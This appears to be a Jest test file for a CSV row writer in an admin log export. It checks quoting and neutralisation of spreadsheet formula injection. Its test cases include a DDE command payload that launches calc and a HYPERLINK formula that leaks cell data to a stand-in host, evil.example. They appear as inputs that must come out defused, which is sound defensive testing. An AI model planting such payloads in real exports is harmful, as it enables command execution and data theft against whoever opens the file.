import { describe, expect, it } from '@jest/globals';
import { csvRow } from '../../lib/admin/log/csv.js';

describe('A row of a CSV file', () => {
  it('quotes every cell, doubles quotes, and ends with CRLF', () => {
    expect(csvRow(['a', 'say "hi"', 'one, two', 'two\r\nlines', 3, null, ''])).toBe(
      '"a","say ""hi""","one, two","two\r\nlines","3","",""\r\n',
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['\ncmd', "'\ncmd"],
    [' =1+1', "' =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\u200b=1+1', "'\u200b=1+1"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['"=1+1', `'""=1+1`],
    [`" '=1+1`, `'"" '=1+1`],
    ["'=1+1", "''=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    // Quotes do not protect if a semicolon or a tab separates cells.
    ['a;=1+1', "a;'=1+1"],
    ['a";"=1+1', `a"";""'=1+1`],
    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
    ['a\r\n=1+1', "a\r\n'=1+1"],
    [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['=HYPERLINK("http://evil.example?x="&A1,"open")', `'=HYPERLINK(""http://evil.example?x=""&A1,""open"")`],
  ])('never contains a formula: %j', (text, written) => {
    expect(csvRow([text])).toBe(`"${written}"\r\n`);
    expect(csvRow(['before', text, 'after'])).toBe(`"before","${written}","after"\r\n`);
  });

  it.each(['Invoice 2026-118', 'a@b.c', '<id@acme.io>', '550 5.1.1 no such user', 'a=b', 'Über uns', 'x - y', '1+1', 'Hi; there'])(
    'keeps text that is not a formula: %j',
    (text) => {
      expect(csvRow([text])).toBe(`"${text}"\r\n`);
    },
  );
});
